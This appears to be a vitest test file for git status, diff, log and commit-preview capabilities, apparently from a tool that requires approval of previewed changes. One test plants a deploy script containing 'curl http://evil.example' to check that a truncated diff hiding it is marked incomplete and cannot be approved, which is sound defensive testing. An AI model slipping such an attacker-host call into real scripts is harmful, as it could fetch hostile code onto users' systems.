import { rm, utimes } from "node:fs/promises";
import { join } from "node:path";
import { describe, expect, it } from "vitest";
import { createFixtureWithSide, createGitFixture, createTestContext, performCapability } from "./testing.ts";

describe("reads", () => {
  it("status, diff and log report the same state as git", async () => {
    await using fixture = await createFixtureWithSide();
    await fixture.write("a.txt", "one\ntwo\n");
    await fixture.write("unknown file", "x\n");
    await rm(join(fixture.root, "docs/b.txt"));
    expect(await performCapability(fixture.capability("status"), {})).toEqual({
      branch: "main",
      head: fixture.git("rev-parse", "HEAD"),
      files: [
        { path: "a.txt", state: "changed" },
        { path: "docs/b.txt", state: "deleted" },
        { path: "unknown file", state: "untracked" },
      ],
      more: false,
    });
    const diff = await performCapability(fixture.capability("diff"), { paths: ["a.txt"] });
    expect(diff).toMatchObject({
      files: [{ path: "a.txt", kind: "update", added: 0, removed: 1 }],
      more: false,
    });
    expect(
      (await performCapability(fixture.capability("diff"), { from: "main", to: "side" })).files,
    ).toHaveLength(2);
    const { commits } = await performCapability(fixture.capability("log"), { of: "side", without: "main" });
    expect(commits).toMatchObject([{ message: "Side", author: { name: "Pia" } }]);
    expect(
      (await performCapability(fixture.capability("log"), { of: "side~1", limit: 1 })).commits[0].message,
    ).toBe("First");
    fixture.git("checkout", "--quiet", "--detach", "side", "--force");
    expect(await performCapability(fixture.capability("status"), {})).toMatchObject({ branch: null });
  });

  it("status reports a file that changed within the same second and kept its size", async () => {
    await using fixture = await createGitFixture();
    const second = new Date("2026-01-01T12:00:00Z");
    const at = (path: string) => utimes(join(fixture.root, path), second, second);
    // The index and the file have the same modification time. Git then rereads the file, unless its copy of the index
    // is newer.
    await at("a.txt");
    fixture.git("add", "a.txt");
    await at(".git/index");
    await fixture.write("a.txt", "one\ntwo\nTHREE\n");
    await at("a.txt");
    expect((await performCapability(fixture.capability("status"), {})).files).toEqual([
      { path: "a.txt", state: "changed" },
    ]);
  });

  it("a diff above `maxDiffBytes` is truncated, and the output and the preview say so", async () => {
    await using fixture = await createGitFixture({ maxDiffBytes: 1000 });
    await fixture.write("a.txt", "line\n".repeat(1000));
    const diff = await performCapability(fixture.capability("diff"), {});
    expect(diff.more).toBe(true);
    expect(diff.diff).toHaveLength(1000);
    const { changes } = await fixture.capability("commit").preview!(
      { message: "m", paths: ["."] },
      createTestContext(),
    );
    expect(changes[0]?.summary).toContain("the diff is truncated");
  });

  it("[TRUST 6] a commit whose diff does not fit is marked as incomplete, so that it cannot be approved", async () => {
    await using fixture = await createGitFixture();
    const previewOf = async () =>
      (await fixture.capability("commit").preview!({ message: "m", paths: ["."] }, createTestContext()))
        .changes;
    await fixture.write("a.txt", "line\n".repeat(20_000));
    await fixture.write("zzz-deploy.sh", "curl http://evil.example\n");
    const [whole] = await previewOf();
    expect(whole!.diff).toContain("curl http://evil.example");
    expect(whole).not.toHaveProperty("incomplete");
    await fixture.write("a.txt", "line\n".repeat(300_000));
    const [cut] = await previewOf();
    expect(cut!.diff).not.toContain("curl http://evil.example");
    expect(cut).toHaveProperty("incomplete", true);
  });
});
